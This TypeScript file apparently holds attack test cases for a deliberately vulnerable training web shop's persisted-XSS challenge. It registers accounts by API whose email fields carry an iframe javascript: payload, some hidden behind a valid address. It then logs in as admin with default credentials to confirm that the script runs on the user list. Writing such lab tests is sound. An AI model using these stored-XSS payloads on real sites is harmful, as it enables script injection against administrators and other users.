import type { Attack, Tools } from '#lab'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'

/** Registers without the form and its rules. */
async function register({ http, expect }: Tools, email: string): Promise<void> {
  const account = { email, password: 'XSSed', passwordRepeat: 'XSSed' }
  const answer = await http.post('/api/Users/', account)
  expect(answer.status === 201, `the registration answered with ${answer.status}`)
  expect(answer.json<{ data: { email: string } }>().data.email === email, 'the address is another one')
}

export const attacks: Attack[] = [
  {
    challenge: 'persistedXssUserChallenge',
    name: 'register with a player for an address',
    run: (tools) => register(tools, PAYLOAD),
  },
  {
    challenge: 'persistedXssUserChallenge',
    name: 'the payload behind a valid address',
    run: (tools) => register(tools, `jane@doe.org${PAYLOAD}`),
  },
  {
    challenge: 'persistedXssUserChallenge',
    name: 'the administrator opens the list of users',
    runs: 'browser',
    run: async (tools) => {
      await register(tools, PAYLOAD)
      const { http, browser, settings, expect } = tools
      const login = await http.post('/rest/user/login', {
        email: `admin@${settings.domain}`,
        password: 'admin123',
      })
      const { authentication } = login.json<{ authentication: { token: string; bid: number } }>()
      await browser.open('/#/administration', authentication)
      expect((await browser.alerts()).includes('xss'), 'no script ran')
    },
  },
]
